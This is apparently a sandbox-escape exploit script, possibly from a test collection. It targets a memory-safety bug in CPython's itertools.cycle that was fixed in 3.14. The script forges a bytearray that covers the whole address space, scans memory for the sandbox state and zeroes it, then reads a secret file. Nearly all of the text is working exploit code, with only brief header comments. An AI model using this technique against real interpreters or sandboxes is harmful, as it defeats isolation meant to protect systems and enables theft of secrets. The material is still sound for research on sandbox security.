# technique: itertools.cycle goes on in a list that has become shorter: beyond its end lies an address of ours, of a bytearray that spans the address space; with it the sandbox is switched off
# mended: 3.14
# goal: read-secret
# source: own analysis: cycle_next() in itertoolsmodule.c (removed in 3.14)
import itertools
import struct
import sys
import warnings

warnings.simplefilter('ignore')
FileIO = type(getattr(sys.stdout.buffer, 'raw', sys.stdout.buffer))


def show():
    print(FileIO('@SECRET@').readall())


fake = struct.pack('<7Q', 1 << 20, id(bytearray), 2**63 - 1, 2**63 - 1, 0, 0, 0)
neighbours = [struct.pack('<Q', id(fake) + 32) * 10 + bytes(4)
              for i in range(3000)]
items = [1] * 60
cycle = itertools.cycle(())
cycle.__setstate__((items, 1))
for i in range(22):
    next(cycle)
neighbours[2000] = None  # into its place goes what is left of the list
del items[10:]
memory = next(cycle)


def word(a):
    return struct.unpack('<Q', memory[a:a + 8])[0]


# exec is a function of the sandbox; the sandbox knows our globals
table = word(id(exec) + 16) & ~7
try:
    show()
except OSError:
    for a in range(table, table + (1 << 17), 8):
        if word(a) == id(globals()):
            memory[a - 39] = 0  # struct sbx_state: running
            break
    show()
